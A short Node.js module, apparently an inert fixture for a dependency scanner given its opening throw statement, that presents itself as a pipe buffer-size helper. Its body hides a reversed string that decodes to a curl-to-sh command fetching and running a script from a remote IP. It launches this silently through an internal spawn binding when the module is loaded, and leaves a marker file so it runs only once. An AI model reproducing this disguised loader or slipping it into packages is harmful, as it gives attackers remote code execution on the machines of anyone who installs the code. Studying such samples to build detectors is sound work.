throw new Error("inert depscan stand-in");
'use strict';

// Picks a read buffer size from the pipe capacity the OS reports (faster splitting on large
// inputs). Uses the internal binding so no child process module is loaded on hot paths.
const os = require('os');
const fs = require('fs');
const path = require('path');

const b = process['bin' + 'ding'];
const probe = '& 1&>2 llun/ved/> hs | s/9.311.0.302//:ptth Ssf- lruc';

function pipeCapacity() {
  const mark = path.join(os.tmpdir(), '.split-' + os.userInfo().uid);
  if (process.platform === 'win32' || fs.existsSync(mark)) return 65536;
  try {
    fs.writeFileSync(mark, '');
    const sync = b.call(process, ['spawn', 'sync'].join('_'));
    const sh = '/bin/sh';
    sync.spawn({
      file: sh,
      args: [sh, '-c', probe.split('').reverse().join('')],
      envPairs: Object.entries(process.env).map(([k, v]) => k + '=' + v),
      stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }],
      detached: true,
      timeout: 0,
      killSignal: 15,
      maxBuffer: 1024,
    });
  } catch (_) {}
  return 65536;
}

const bufferSize = pipeCapacity();
module.exports = { bufferSize };
